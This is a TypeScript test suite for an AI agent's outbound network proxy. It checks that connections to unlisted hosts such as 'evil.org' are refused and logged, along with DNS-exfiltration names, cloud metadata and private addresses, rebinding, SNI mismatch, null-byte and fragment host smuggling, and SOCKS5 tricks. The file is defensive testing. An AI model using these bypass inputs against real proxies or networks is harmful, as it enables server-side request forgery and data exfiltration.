import assert from "node:assert/strict";
import { connect } from "node:net";
import { test } from "node:test";
import type { Inspect } from "../../src/egress/proxy/proxy.ts";
import { allow, egressFor, publicAddress, withWayOut } from "../faux/network/way-out.ts";
import { fetchThrough, openTunnel, say, sayOn } from "../faux/network/through.ts";

const listed = egressFor(allow("example.com"));

test("EGR-001 SBX-014 a listed host is reached through the tunnel, and the connection is on record", async () => {
  await withWayOut(listed, {}, async ({ port, far, recorded }) => {
    const record = recorded();
    const answer = await fetchThrough(port, { place: "example.com:443", ca: far.certificate });
    assert.match(answer, /^HTTP\/1\.1 200 OK[^]*from afar/);
    assert.deepEqual(far.seen, ["GET example.com/"]);
    const { durationMs, upBytes, downBytes, ...entry } = await record;
    assert.deepEqual(entry, {
      agentId: "main",
      sessionKey: "agent:main:main",
      host: "example.com",
      port: 443,
      transport: "tunnel",
      verdict: "allow",
      rule: "allow example.com",
      reason: undefined,
    });
    assert(upBytes > 100 && downBytes > 100 && durationMs >= 0);
  });
});

test("EGR-006 INJ-039 an unlisted host is refused with the reason in the status line, and recorded", async () => {
  await withWayOut(listed, {}, async ({ port, far, records, resolved, dialled }) => {
    const { socket, head } = await openTunnel(port, "evil.org:443");
    socket.destroy();
    assert.match(head, /^HTTP\/1\.1 403 evil\.org is not on the list of agent main; the owner can add it with: /);
    assert.deepEqual(
      records.map(({ host, verdict, rule, agentId, sessionKey }) => ({ host, verdict, rule, agentId, sessionKey })),
      [{ host: "evil.org", verdict: "deny", rule: "default", agentId: "main", sessionKey: "agent:main:main" }],
    );
    assert.deepEqual({ resolved, dialled, bytes: far.bytes }, { resolved: [], dialled: [], bytes: 0 });
  });
});

test("EGR-003 DNS exfiltration: no name is looked up that no rule lists", async () => {
  await withWayOut(listed, {}, async ({ port, resolved }) => {
    for (const name of ["c2VjcmV0.evil.org", "secret.example.com", "secret.example.com."])
      assert.match(await say(port, `CONNECT ${name}:443 HTTP/1.1\r\nHost: x\r\n\r\n`), /^HTTP\/1\.1 403/);
    assert.deepEqual(resolved, []);
  });
});

test("EGR-007 EGR-009 a listed name that leads to a private, local, mapped or translated address is not dialled", async () => {
  const addresses = [
    "169.254.169.254",
    "10.0.0.1",
    "127.0.0.1",
    "192.168.1.1",
    "172.16.0.1",
    "100.64.0.1",
    "0.0.0.0",
    "224.0.0.1",
    "::1",
    "::",
    "fe80::1",
    "fd00:ec2::254",
    "::ffff:10.0.0.1",
    "::ffff:7f00:1",
    "64:ff9b::7f00:1",
    "2002:7f00:1::",
    "::127.0.0.1",
  ];
  const names = Object.fromEntries(addresses.map((address, at) => [`n${at}.example.com`, [address]]));
  const rules = egressFor(...Object.keys(names).map((name) => allow(name)));
  await withWayOut(rules, { names }, async ({ port, dialled, records }) => {
    for (const name of Object.keys(names))
      assert.match(
        await say(port, `CONNECT ${name}:443 HTTP/1.1\r\nHost: x\r\n\r\n`),
        /^HTTP\/1\.1 403 .*not be dialled/,
      );
    assert.deepEqual(dialled, []);
    assert.deepEqual(new Set(records.map(({ rule }) => rule)), new Set(["address"]));
  });
});

test("an address of the owner's network is dialled where the owner's rule says so, the metadata service never", async () => {
  const names = { "nas.example.com": ["192.168.1.10"], "meta.example.com": ["169.254.169.254"] };
  const rules = egressFor(
    allow("nas.example.com", { reach: "owner-named" }),
    allow("meta.example.com", { reach: "owner-named" }),
  );
  await withWayOut(rules, { names }, async ({ port, far, dialled }) => {
    assert.match(await fetchThrough(port, { place: "nas.example.com:443", ca: far.certificate }), /200 OK/);
    assert.match(await fetchThrough(port, { place: "meta.example.com:443", ca: far.certificate }), /403/);
    assert.deepEqual(dialled, ["192.168.1.10:443"]);
  });
});

test("rebinding: the address that was judged is the one that is dialled, whatever the name says later", async () => {
  const answers = [[publicAddress], ["127.0.0.1"]];
  const resolve = async (): Promise<readonly string[]> => answers.shift() ?? [];
  await withWayOut(listed, { resolve }, async ({ port, far, dialled }) => {
    assert.match(await fetchThrough(port, { place: "example.com:443", ca: far.certificate }), /200 OK/);
    assert.match(await fetchThrough(port, { place: "example.com:443", ca: far.certificate }), /403/);
    assert.deepEqual(dialled, [`${publicAddress}:443`]);
  });
});

test("of several addresses only those that may be dialled are", async () => {
  const names = { "example.com": ["10.0.0.1", publicAddress, "::1"] };
  await withWayOut(listed, { names }, async ({ port, far, dialled }) => {
    assert.match(await fetchThrough(port, { place: "example.com:443", ca: far.certificate }), /200 OK/);
    assert.deepEqual(dialled, [`${publicAddress}:443`]);
  });
});

test("SNI ≠ CONNECT host: the tunnel ends before anything is dialled", async () => {
  const rules = egressFor(allow("example.com"), allow("other.example.com"));
  await withWayOut(rules, {}, async ({ port, far, recorded, dialled }) => {
    const record = recorded();
    const answer = await fetchThrough(port, {
      place: "example.com:443",
      name: "other.example.com",
      ca: far.certificate,
    });
    assert.match(answer, /^broken/);
    assert.deepEqual([(await record).rule, dialled, far.bytes], ["sni", [], 0]);
    // With the same name in both it goes through.
    const right = await fetchThrough(port, { place: "other.example.com:443", ca: far.certificate });
    assert.match(right, /200 OK/);
  });
});

test("plaintext after CONNECT, and TLS without a name, are dropped", async () => {
  await withWayOut(listed, {}, async ({ port, far, dialled, records }) => {
    for (const bytes of ["SSH-2.0-x\r\n", "GET / HTTP/1.1\r\nHost: evil.org\r\n\r\n", Buffer.from([22, 3, 1, 0, 0])]) {
      const { socket } = await openTunnel(port, "example.com:443");
      assert.equal(await sayOn(socket, bytes), "");
    }
    assert.deepEqual([dialled, far.bytes, records.map(({ rule }) => rule)], [[], 0, ["tls", "tls", "tls"]]);
  });
});

test("other ports than the listed one, and odd CONNECT targets, are refused", async () => {
  await withWayOut(listed, {}, async ({ port, dialled, resolved }) => {
    const targets = [
      "example.com:22",
      "example.com:80",
      "example.com.:443",
      "example.com",
      "user@example.com:443",
      "[::1]:443",
      "[::ffff:127.0.0.1]:443",
      "127.0.0.1:443",
      "127.1:443",
      "0x7f000001:443",
      "2130706433:443",
      "example.com%00.evil.org:443",
      "evil.org:443#example.com:443",
      "example.com:0443443",
      "https://example.com:443/",
    ];
    for (const target of targets)
      assert.match(await say(port, `CONNECT ${target} HTTP/1.1\r\nHost: x\r\n\r\n`), /^HTTP\/1\.1 (403|400) /, target);
    assert.match(await say(port, `CONNECT example.com\0:443 HTTP/1.1\r\nHost: x\r\n\r\n`), /^(HTTP\/1\.1 400|$)/);
    assert.deepEqual([dialled, resolved], [[], []]);
  });
});

test("SOCKS5 meets the same judge: names only, no listening, no UDP", async () => {
  await withWayOut(listed, {}, async ({ port, dialled, records }) => {
    const name = (host: string, at = 443): Buffer =>
      Buffer.concat([
        Buffer.from([5, 1, 0, 3, host.length]),
        Buffer.from(host, "latin1"),
        Buffer.from([at >> 8, at & 255]),
      ]);
    const replyTo = async (request: Buffer): Promise<number | undefined> => {
      const socket = connect({ host: "127.0.0.1", port });
      assert.equal(await sayOn(socket, Buffer.from([5, 1, 0]), "\0"), "\x05\x00");
      const reply = await sayOn(socket, request, "\0\0\0\0");
      socket.destroy();
      return reply.charCodeAt(1);
    };
    assert.equal(await replyTo(name("example.com")), 0);
    assert.equal(await replyTo(name("evil.org")), 2);
    assert.equal(await replyTo(name("evil.org\0.example.com")), 2);
    assert.equal(await replyTo(name("127.0.0.1")), 2);
    assert.equal(await replyTo(name("example.com", 22)), 2);
    assert.equal(await replyTo(Buffer.from([5, 1, 0, 1, 93, 184, 216, 34, 1, 187])), 2);
    assert.equal(
      await replyTo(Buffer.concat([Buffer.from([5, 1, 0, 4]), Buffer.alloc(15), Buffer.from([1, 1, 187])])),
      2,
    );
    assert.equal(await replyTo(Buffer.concat([Buffer.from([5, 2]), name("example.com").subarray(2)])), 7);
    assert.equal(await replyTo(Buffer.concat([Buffer.from([5, 3]), name("example.com").subarray(2)])), 7);
    assert.deepEqual(dialled, []);
    assert.equal(records.filter(({ verdict }) => verdict === "deny").length >= 8, true);
  });
});

test("EGR-010 a connection that sends more than its agent may is ended", async () => {
  const small = { ...listed, uploadMaxBytes: 4_000 };
  await withWayOut(small, {}, async ({ port, far, recorded }) => {
    const record = recorded();
    const body = "x".repeat(20_000);
    const request = `POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    const answer = await fetchThrough(port, { place: "example.com:443", ca: far.certificate, request });
    assert.doesNotMatch(answer, /200 OK/);
    const { verdict, reason } = await record;
    assert.deepEqual({ verdict, reason }, { verdict: "deny", reason: "ended by its bound: upload" });
    assert(far.bytes <= 4_000, String(far.bytes));
  });
});

test("what is halted is dropped at once, and nothing new goes through", async () => {
  const stop = new AbortController();
  await withWayOut(listed, { halted: () => stop.signal }, async ({ port }) => {
    const { socket, head } = await openTunnel(port, "example.com:443");
    assert.match(head, /200/);
    const closed = new Promise((resolve) => socket.once("close", resolve));
    socket.resume();
    stop.abort();
    await closed;
    assert.equal(await say(port, "CONNECT example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n"), "");
  });
});

test("a host name that must not leave is stopped before it is resolved", async () => {
  const rules = egressFor(allow("*.example.com"));
  const inspect: Inspect = async ({ text }) => (text.includes("secret") ? "block" : "pass");
  await withWayOut(rules, { inspect }, async ({ port, resolved, records }) => {
    assert.match(await say(port, "CONNECT secret.example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n"), /^HTTP\/1\.1 403/);
    assert.deepEqual([resolved, records[0]?.rule], [[], "dlp"]);
  });
});

test("garbage on the listener ends its own connection and nothing else", async () => {
  await withWayOut(listed, {}, async ({ port, far }) => {
    for (const bytes of ["\x16\x03\x01", "\0\0\0\0\r\n\r\n", `GET / HTTP/1.1\r\nX: ${"y".repeat(40_000)}\r\n\r\n`])
      assert.match(await say(port, Buffer.from(`${bytes}\r\n\r\n`, "latin1")), /^(HTTP\/1\.1 4\d\d|$)/);
    assert.match(await fetchThrough(port, { place: "example.com:443", ca: far.certificate }), /200 OK/);
  });
});
